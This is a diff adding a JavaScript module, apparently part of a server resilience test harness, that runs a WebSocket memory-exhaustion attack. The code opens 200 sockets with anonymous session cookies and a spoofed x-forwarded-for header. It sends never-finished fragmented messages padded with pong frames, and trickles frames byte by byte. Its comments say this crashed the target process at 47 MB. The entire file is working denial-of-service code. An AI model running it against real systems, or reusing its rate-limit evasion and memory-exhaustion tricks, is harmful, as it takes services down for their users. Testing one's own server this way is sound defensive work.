@@ -1,0 +1,66 @@
+import { once } from 'node:events';
+import { setTimeout as pause } from 'node:timers/promises';
+import { WebSocket } from 'ws';
+
+const address = '10.66.0.2';
+const socketCount = 200;
+/** Bytes of a read that the program makes of a connection. */
+const readBytes = 64 * 1024;
+
+/** A frame of a client, masked with zeros. */
+function frame(first, length) {
+  const header = length < 126 ? [first, 0x80 | length] : [first, 0xfe, length >> 8, length & 255];
+  return Buffer.concat([Buffer.from([...header, 0, 0, 0, 0]), Buffer.alloc(length, 'x')]);
+}
+
+const pongs = Buffer.concat(Array.from({ length: readBytes / 131 }, () => frame(0x8a, 125)));
+
+/**
+ * Sends messages in parts that never end, each part in a read of its own that pongs fill, so that a byte keeps 64 kB; and
+ * frames byte by byte. 47 MB of it ended the process, one socket could keep up to 1 GB.
+ */
+export const attack = {
+  name: 'unfinished messages',
+  async run({ base, signal, request }) {
+    const origin = new URL(base).origin;
+    let opened = 0;
+    let ended = 0;
+    let sent = 0;
+    async function fill(number) {
+      const session = await request('/api/session/anonymous', { method: 'POST', headers: { origin } });
+      const cookie = session.headers
+        .getSetCookie()
+        .map((text) => text.split(';')[0])
+        .join('; ');
+      const socket = new WebSocket(`${base.replace('http', 'ws')}/ws`, {
+        headers: { cookie, origin, 'x-forwarded-for': address },
+      });
+      socket.on('error', () => {});
+      if (
+        !(await once(socket, 'open').then(
+          () => true,
+          () => false,
+        ))
+      )
+        return;
+      opened++;
+      socket.once('close', () => ended++);
+      const connection = socket._socket;
+      const trickles = number % 4 === 0;
+      if (trickles) connection.write(frame(0x81, 16_000).subarray(0, 20));
+      while (!signal.aborted && connection.writable && sent < 512 * 1024 * 1024) {
+        const bytes = trickles ? Buffer.from('x') : Buffer.concat([frame(number ? 0x01 : 0x00, 1), pongs]);
+        number = 0;
+        sent += bytes.length;
+        if (!connection.write(bytes))
+          await Promise.race([once(connection, 'drain'), once(connection, 'close')]).catch(() => {});
+        await pause(trickles ? 100 : 5);
+      }
+      socket.terminate();
+    }
+    // A session takes one request of the 600 a minute, a socket another.
+    const all = Array.from({ length: socketCount }, (_, at) => fill(at + 1));
+    await Promise.all(all);
+    return `${opened} sockets sent ${Math.round(sent / 1e6)} MB; the program ended ${ended}`;
+  },
+};
